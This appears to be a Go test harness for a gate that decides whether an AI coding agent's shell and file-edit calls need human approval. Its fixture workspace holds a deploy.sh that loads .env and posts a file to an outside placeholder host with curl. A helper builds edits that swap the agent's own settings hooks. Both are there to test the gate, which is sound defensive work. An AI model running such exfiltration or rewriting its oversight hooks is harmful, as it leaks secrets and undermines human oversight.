package episode

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

// chain is a session in a workspace at /w/repo: every question in it is answered with yes.
// Its host sees the disk, or nothing.
type chain struct {
	t    *testing.T
	m    Memory
	disk map[string]string
	at   int
	eyes bool
}

// chainDisk is what lies in the workspace at first.
var chainDisk = map[string]string{
	"/w/repo/.claude/settings.json": hooksOf("tool hooks agent start", "tool hooks agent stop", "other check start"),
	"/w/repo/.claude/scripts/w.sh":  "#!/bin/sh\nexec tool \"$@\"\n",
	"/w/repo/deploy.sh":             "#!/bin/sh\n. ./.env\ncurl -d @notes https://a.example/x\n",
}

// hooksOf is a host's settings with a hook for each command.
func hooksOf(commands ...string) string {
	var b strings.Builder
	b.WriteString("{\n  \"hooks\": [\n")
	for _, c := range commands {
		b.WriteString(hookOf(c) + "\n")
	}
	b.WriteString("  ]\n}\n")
	return b.String()
}

// hookOf is one hook of settings.
func hookOf(command string) string {
	q, _ := json.Marshal(command)
	return "    {\n      \"type\": \"command\",\n      \"command\": " + string(q) + "\n    },"
}

// exchange is an edit of the settings that puts one hook in the place of another.
func exchange(from, to string) string {
	return edit("/w/repo/.claude/settings.json", hookOf(from), hookOf(to))
}

func edit(file, from, to string) string {
	args, _ := json.Marshal(map[string]string{"file_path": file, "old_string": from, "new_string": to})
	return "Edit " + string(args)
}

func write(file, text string) string {
	args, _ := json.Marshal(map[string]string{"file_path": file, "content": text})
	return "Write " + string(args)
}

func newChain(t *testing.T, eyes bool) *chain {
	s := &chain{t: t, disk: map[string]string{}, eyes: eyes}
	for k, v := range chainDisk {
		s.disk[k] = v
	}
	return s
}

// judge is the decision on a step: "$ LINE", or a tool's name with its arguments.
func (s *chain) judge(step string) (*gates.Context, gates.Decision) {
	st := gates.State{Cwd: "/w/repo", Roots: []string{"/w/repo"}, Home: "/home/u", Remotes: []string{"git.example/a/p"}}
	if s.eyes {
		st.Text = func(p string) (string, bool) { text, ok := s.disk[p]; return text, ok }
		st.Exists = func(p string) bool { _, ok := s.disk[p]; return ok }
		st.Stamp = func(p string) string {
			if text, ok := s.disk[p]; ok {
				return fmt.Sprint(len(text), text)
			}
			return ""
		}
	}
	s.m.Before(&st)
	tool, args, _ := strings.Cut(step, " ")
	if tool == "$" {
		line, _ := json.Marshal(map[string]string{"command": args})
		tool, args = "Bash", string(line)
	}
	c := gates.NewContext(gates.Request{Tool: tool, Args: []byte(args)}, st)
	return &c, (&gates.Checker{}).Check(&c, nil)
}

// run runs a step. "disk FILE TEXT" is somebody else who writes a file.
func (s *chain) run(step string) {
	if rest, ok := strings.CutPrefix(step, "disk "); ok {
		file, text, _ := strings.Cut(rest, " ")
		s.disk[file] = text
		return
	}
	c, d := s.judge(step)
	if d.Disposition == gates.Rejected {
		s.t.Fatalf("%s is rejected: %+v", step, d.Reasons)
	}
	s.at++
	key := fmt.Sprint(s.at)
	s.m.Let(key, "", c, &d, int64(s.at))
	for _, w := range c.Written() {
		switch {
		case !w.Known:
		case !w.Part:
			s.disk[w.Path] = w.Text
		default:
			s.disk[w.Path] = strings.Replace(s.disk[w.Path], w.Old, w.Text, 1)
		}
	}
	var st gates.State
	again := *c
	s.m.At(key, &st)
	again.Flow = st.Flow
	s.m.Ended(key, &again, int64(s.at))
}

// chainCase is a session and its last call, about which is asked or not.
type chainCase struct {
	name  string
	steps []string
	asks  bool
	blind string // what a host that sees nothing does otherwise
}

func runChains(t *testing.T, list []chainCase) {
	for _, tt := range list {
		for _, eyes := range []bool{true, false} {
			s := newChain(t, eyes)
			for _, step := range tt.steps[:len(tt.steps)-1] {
				s.run(step)
			}
			last := tt.steps[len(tt.steps)-1]
			_, d := s.judge(last)
			want := tt.asks
			if !eyes && tt.blind != "" {
				want = tt.blind == "asks"
			}
			if got := d.Disposition != gates.Approved; got != want {
				t.Errorf("%s (eyes %v): asks %v, want %v: %s\n  agreed %q\n  %+v", tt.name, eyes, got, want, last, s.m.Agreed(), d.Reasons)
			}
		}
	}
}
